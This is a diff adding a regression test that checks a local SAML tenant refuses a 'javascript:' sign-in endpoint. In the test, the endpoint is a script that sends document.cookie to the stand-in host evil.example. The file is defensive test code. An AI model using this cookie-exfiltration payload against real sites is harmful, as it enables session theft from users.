@@ -2,6 +2,7 @@ import { request as httpRequest } from "node:http";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { createOrgInvitation } from "~/services/invitations.server";
 import { hashPassword } from "../../local-tenant/passwords";
+import { selfSignedCertificate } from "../../local-tenant/x509";
 import { call, sessionCookieFor } from "../support/auth";
 import { HttpBrowser, hiddenInput } from "../support/http-browser";
 import { startTestPortal, type TestPortal } from "../support/portal";
@@ -316,5 +317,64 @@ describe("pages with personal data are not stored by browsers or proxies", () =>
     const res = await fetch(`${portal.url}${asset}`);
     await res.arrayBuffer();
     expect(res.headers.get("cache-control")).toMatch(/max-age=31536000/);
+  });
+});
+
+describe("the local tenant never posts a SAML request to a script URL", () => {
+  async function mgmtToken(): Promise<string> {
+    const t = portal.tenant!;
+    const res = await fetch(`${t.url}/oauth/token`, {
+      method: "POST",
+      headers: { "content-type": "application/json" },
+      body: JSON.stringify({
+        grant_type: "client_credentials",
+        client_id: t.mgmtClient.clientId,
+        client_secret: t.mgmtClient.clientSecret,
+        audience: t.context.audience,
+      }),
+    });
+    return ((await res.json()) as { access_token: string }).access_token;
+  }
+
+  it.each([
+    ["HTTP-POST", "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"],
+    ["HTTP-Redirect", "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"],
+  ])("a javascript: signInEndpoint (%s binding) is refused, not put in a form action", async (label, binding) => {
+    const t = portal.tenant!;
+    const name = `evil-saml-${label.toLowerCase()}`;
+    const created = await fetch(`${t.managementApiUrl}/connections`, {
+      method: "POST",
+      headers: { authorization: `Bearer ${await mgmtToken()}`, "content-type": "application/json" },
+      body: JSON.stringify({
+        name,
+        strategy: "samlp",
+        options: {
+          signInEndpoint: "javascript:fetch('https://evil.example/?'+document.cookie)//",
+          signingCert: Buffer.from(selfSignedCertificate("urn:evil").certPem).toString("base64"),
+          protocolBinding: binding,
+        },
+        enabled_clients: [t.testLoginClient.clientId],
+      }),
+    });
+    expect(created.status).toBeLessThan(300);
+    const browser = new HttpBrowser();
+    const authorize = new URL(`${t.url}/authorize`);
+    for (const [k, v] of Object.entries({
+      client_id: t.testLoginClient.clientId,
+      response_type: "code",
+      redirect_uri: `${portal.url}/test-login/callback`,
+      scope: "openid",
+      state: "s1",
+      nonce: "n1",
+      connection: name,
+    }))
+      authorize.searchParams.set(k, v);
+    const done = await browser.follow(authorize.href, (url) => url.startsWith(`${portal.url}/test-login/callback`));
+    const html = done.res ? await done.res.text() : "";
+    expect(html).not.toMatch(/action="javascript:/i);
+    expect(done.url.startsWith("javascript:")).toBe(false);
+    // The application hears why, as from Auth0.
+    expect(done.url.startsWith(`${portal.url}/test-login/callback`)).toBe(true);
+    expect(new URL(done.url).searchParams.get("error")).toBe("invalid_request");
   });
 });
